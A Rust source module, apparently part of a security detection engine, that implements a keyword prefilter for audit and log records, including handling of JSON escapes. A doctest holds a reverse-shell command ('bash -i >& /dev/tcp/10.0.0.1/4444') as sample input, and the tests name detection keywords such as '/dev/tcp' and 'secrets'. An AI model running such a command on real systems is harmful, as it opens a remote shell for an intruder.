//! The byte-level prefilter: proves that a record cannot match any rule of a
//! profile before anything is parsed.
//!
//! A profile names keywords (ASCII case-insensitive). A record containing none
//! of them cannot match — unless JSON escapes hide one (`\u0064ocker`, `\/dev\/tcp`),
//! so a record with an escape that decodes to a character some keyword contains
//! is always read in full. Escapes of other characters (Go's `\u0026` for `&`,
//! common in Kubernetes audit URIs) do not defeat the filter.
//!
//! Two ways to search, with the same answers ([`Strategy`]): on x86-64 and AArch64
//! the record is lower-cased in 4 KiB chunks (overlapping by the longest keyword)
//! and searched case-sensitively, which lets aho-corasick use its SIMD "Teddy"
//! searcher; elsewhere (WebAssembly) the record is searched as it is with
//! ASCII-case-insensitive DFAs, without a copy.

use alloc::string::String;
use alloc::vec::Vec;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use memchr::memmem;

const CHUNK: usize = 4096;
/// Keywords per searcher: aho-corasick's SIMD Teddy serves up to 64 patterns (beyond that it
/// falls back to a slower automaton), so larger lists are split.
const GROUP: usize = 64;

/// How a [`Prefilter`] searches for its keywords. Both give the same answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Strategy {
    /// Lower-case the record in chunks and search case-sensitively: aho-corasick's SIMD
    /// Teddy on x86-64 and AArch64.
    LowerChunks,
    /// Search the record as it is with ASCII-case-insensitive DFAs: no copy, for targets
    /// without a SIMD searcher (WebAssembly).
    CaseInsensitiveDfa,
}

impl Strategy {
    /// The faster strategy for the target this is compiled for.
    pub const FOR_TARGET: Strategy = if cfg!(any(target_arch = "x86_64", target_arch = "aarch64")) {
        Strategy::LowerChunks
    } else {
        Strategy::CaseInsensitiveDfa
    };
}

/// A compiled prefilter. Holds a scratch buffer, so it is not `Sync` (neither is an engine).
#[derive(Clone, Debug)]
pub struct Prefilter {
    strategy: Strategy,
    scratch: core::cell::RefCell<Vec<u8>>,
    /// Case-insensitive DFA over the markers: finds a marker anywhere in a long record at once.
    markers_anywhere: Option<AhoCorasick>,
    /// Keywords (of all three lists) that start with a space, without it: they also match
    /// at the very start of a record (a program name at a word start, ` ctr`).
    leading: [Vec<Vec<u8>>; 3],
    searchers: Vec<AhoCorasick>,
    /// Searched only when a marker is present: (markers, keyword searchers).
    gated: Option<(AhoCorasick, Vec<AhoCorasick>)>,
    longest: usize,
    /// Bytes that occur in some keyword (both cases), i.e. that an escape could hide.
    keyword_bytes: [bool; 128],
    slash: bool,
}

impl Prefilter {
    /// Builds a prefilter for `keywords` (non-empty, matched ASCII case-insensitively).
    pub fn new(keywords: &[String]) -> Result<Prefilter, String> {
        Prefilter::with_gated(keywords, &[], &[])
    }

    /// Builds a prefilter: `keywords` count in every record, `gated` keywords only in records
    /// that also contain one of `markers`; the strategy is the target's ([`Strategy::FOR_TARGET`]).
    ///
    /// ```
    /// use cadet_core::prefilter::Prefilter;
    /// let p = Prefilter::with_gated(&["docker".into()], &["secrets".into()], &["k8s.io"]).unwrap();
    /// assert!(p.may_match(br#"{"apiVersion":"audit.k8s.io/v1","objectRef":{"resource":"secrets"}}"#));
    /// assert!(!p.may_match(br#"{"msg":"rotating secrets"}"#));
    /// ```
    pub fn with_gated(
        keywords: &[String],
        gated: &[String],
        markers: &[&str],
    ) -> Result<Prefilter, String> {
        Prefilter::with_strategy(keywords, gated, markers, Strategy::FOR_TARGET)
    }

    /// [`Prefilter::with_gated`] with a chosen strategy (to compare them, or to measure).
    pub fn with_strategy(
        keywords: &[String],
        gated: &[String],
        markers: &[&str],
        strategy: Strategy,
    ) -> Result<Prefilter, String> {
        let lower: Vec<String> = keywords.iter().map(|w| w.to_ascii_lowercase()).collect();
        let gated_lower: Vec<String> = gated.iter().map(|w| w.to_ascii_lowercase()).collect();
        let marker_lower: Vec<String> = markers.iter().map(|w| w.to_ascii_lowercase()).collect();
        let longest = lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .map(|w| w.len())
            .max()
            .unwrap_or(1);
        if longest >= CHUNK / 2 {
            return Err(alloc::format!(
                "prefilter keywords must be shorter than {} bytes",
                CHUNK / 2
            ));
        }
        let dfa = |words: &[String]| {
            AhoCorasickBuilder::new()
                .match_kind(MatchKind::LeftmostFirst)
                .ascii_case_insensitive(true)
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .build(words)
                .map_err(|e| alloc::format!("prefilter: {e}"))
        };
        let build = |words: &[String]| -> Result<Vec<AhoCorasick>, String> {
            match strategy {
                // Teddy serves up to GROUP patterns per searcher.
                Strategy::LowerChunks => words
                    .chunks(GROUP)
                    .map(|group| {
                        AhoCorasickBuilder::new()
                            .match_kind(MatchKind::LeftmostFirst)
                            .build(group)
                            .map_err(|e| alloc::format!("prefilter: {e}"))
                    })
                    .collect(),
                // One automaton whatever the count.
                Strategy::CaseInsensitiveDfa => Ok(alloc::vec![dfa(words)?]),
            }
        };
        let searchers = build(&lower)?;
        let gated = if gated_lower.is_empty() || marker_lower.is_empty() {
            None
        } else {
            let marker_searcher = build(&marker_lower)?.pop().ok_or("prefilter: no markers")?;
            Some((marker_searcher, build(&gated_lower)?))
        };
        let markers_anywhere = match (&gated, strategy) {
            (Some(_), Strategy::LowerChunks) => Some(dfa(&marker_lower)?),
            _ => None,
        };
        let leading_of = |words: &[String]| -> Vec<Vec<u8>> {
            words
                .iter()
                .filter_map(|w| w.strip_prefix(' '))
                .filter(|w| !w.is_empty())
                .map(|w| w.as_bytes().to_vec())
                .collect()
        };
        let leading = [
            leading_of(&lower),
            leading_of(&gated_lower),
            leading_of(&marker_lower),
        ];
        let mut keyword_bytes = [false; 128];
        for b in lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .flat_map(|w| w.bytes())
        {
            if b < 128 {
                keyword_bytes[b as usize] = true;
                keyword_bytes[b.to_ascii_uppercase() as usize] = true;
            } else {
                // Non-ASCII keyword bytes could be hidden by any \u escape.
                keyword_bytes = [true; 128];
            }
        }
        let slash = keyword_bytes[b'/' as usize];
        Ok(Prefilter {
            strategy,
            markers_anywhere,
            leading,
            scratch: core::cell::RefCell::new(Vec::with_capacity(CHUNK)),
            searchers,
            gated,
            longest,
            keyword_bytes,
            slash,
        })
    }

    /// True when the record may match (contains a keyword, or an escape that could hide one).
    ///
    /// ```
    /// use cadet_core::prefilter::Prefilter;
    /// let p = Prefilter::new(&["docker".into(), "/dev/tcp".into()]).unwrap();
    /// assert!(p.may_match(br#"{"cmd":"DOCKER ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"\u0064ocker ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444"}"#));
    /// assert!(!p.may_match(br#"{"uri":"/apis/v1?a=1\u0026b=2"}"#));
    /// let ctr = Prefilter::new(&[" ctr".into()]).unwrap();
    /// assert!(ctr.may_match(b"ctr run x") && ctr.may_match(b"sudo ctr run x") && !ctr.may_match(b"objectRef"));
    /// ```
    pub fn may_match(&self, record: &[u8]) -> bool {
        let found = match self.strategy {
            Strategy::LowerChunks => self.search_lower_chunks(record),
            Strategy::CaseInsensitiveDfa => self.search_in_place(record),
        };
        found || self.escape_may_hide_keyword(record)
    }

    /// True when one of the space-led keywords of list `which` starts the record.
    fn leads(&self, which: usize, record: &[u8]) -> bool {
        self.leading[which]
            .iter()
            .any(|w| record.len() >= w.len() && record[..w.len()].eq_ignore_ascii_case(w))
    }

    fn search_in_place(&self, record: &[u8]) -> bool {
        if self.searchers.iter().any(|s| s.is_match(record)) || self.leads(0, record) {
            return true;
        }
        match &self.gated {
            Some((markers, gated)) => {
                (markers.is_match(record) || self.leads(2, record))
                    && (gated.iter().any(|s| s.is_match(record)) || self.leads(1, record))
            }
            None => false,
        }
    }

    fn search_lower_chunks(&self, record: &[u8]) -> bool {
        // The record is searched as if a space preceded it, so that a keyword such as
        // " ctr" (a program name at a word start) also matches at the very beginning.
        let Ok(mut buf) = self.scratch.try_borrow_mut() else {
            return true;
        };
        // Whether the record holds a marker anywhere (a marker may sit in another chunk than
        // a gated keyword); looked up once, on the first chunk that needs it.
        let mut marked: Option<bool> = None;
        let (mut start, mut lead) = (0, 1);
        loop {
            let end = (start + CHUNK - lead).min(record.len());
            buf.clear();
            if lead == 1 {
                buf.push(b' ');
            }
            buf.extend(record[start..end].iter().map(u8::to_ascii_lowercase));
            if self.searchers.iter().any(|s| s.is_match(&buf[..])) {
                return true;
            }
            if let Some((markers, gated)) = &self.gated {
                let whole = start == 0 && end == record.len();
                let is_marked =
                    *marked.get_or_insert_with(|| match (&self.markers_anywhere, whole) {
                        (_, true) | (None, _) => markers.is_match(&buf[..]),
                        (Some(anywhere), false) => {
                            anywhere.is_match(record) || self.leads(2, record)
                        }
                    });
                if is_marked && gated.iter().any(|s| s.is_match(&buf[..])) {
                    return true;
                }
            }
            if end == record.len() {
                return false;
            }
            start = end + 1 - self.longest;
            lead = 0;
        }
    }

    fn escape_may_hide_keyword(&self, record: &[u8]) -> bool {
        if memchr::memchr(b'\\', record).is_none() {
            return false;
        }
        if self.slash && memmem::find(record, b"\\/").is_some() {
            return true;
        }
        memmem::find_iter(record, b"\\u").any(|at| {
            let hex = record.get(at + 2..at + 6).unwrap_or(b"");
            let value = core::str::from_utf8(hex)
                .ok()
                .and_then(|h| u32::from_str_radix(h, 16).ok());
            match value {
                Some(v) if v < 128 => self.keyword_bytes[v as usize],
                Some(_) => false,
                None => true, // malformed escape: read the record and let the parser report it
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_strategies_agree_across_chunk_boundaries() {
        let kw: Vec<String> = ["docker", " ctr", "/dev/tcp"]
            .iter()
            .map(|s| String::from(*s))
            .collect();
        let gated: Vec<String> = ["secrets", "/exec"]
            .iter()
            .map(|s| String::from(*s))
            .collect();
        let markers = ["k8s.io", "] get "];
        let a = Prefilter::with_strategy(&kw, &gated, &markers, Strategy::LowerChunks).unwrap();
        let b =
            Prefilter::with_strategy(&kw, &gated, &markers, Strategy::CaseInsensitiveDfa).unwrap();
        let pad = |n: usize| "x".repeat(n);
        let mut cases: Vec<String> = alloc::vec![
            "ctr run".into(),
            "CTR run".into(),
            "objectRef".into(),
            "DOCKER".into(),
            "a secrets b".into(),
            "k8s.io secrets".into(),
            "] GET /exec".into(),
            "K8S.IO /EXEC".into(),
            String::new(),
        ];
        for n in [CHUNK - 10, CHUNK - 1, CHUNK, CHUNK + 5, 3 * CHUNK] {
            cases.push(alloc::format!("{}docker{}", pad(n), pad(7)));
            cases.push(alloc::format!("{}dock{}", pad(n), pad(7)));
            cases.push(alloc::format!("k8s.io{}secrets", pad(n)));
            cases.push(alloc::format!("secrets{}k8s.io", pad(n)));
            cases.push(alloc::format!("{}secrets", pad(n)));
        }
        for c in &cases {
            assert_eq!(
                a.may_match(c.as_bytes()),
                b.may_match(c.as_bytes()),
                "{}",
                &c[..c.len().min(40)]
            );
        }
        assert!(
            b.may_match(b"ctr run") && !b.may_match(b"objectRef") && b.may_match(b"K8S.IO /EXEC")
        );
        assert!(!b.may_match(b"secrets alone") && !a.may_match(b"secrets alone"));
    }
}
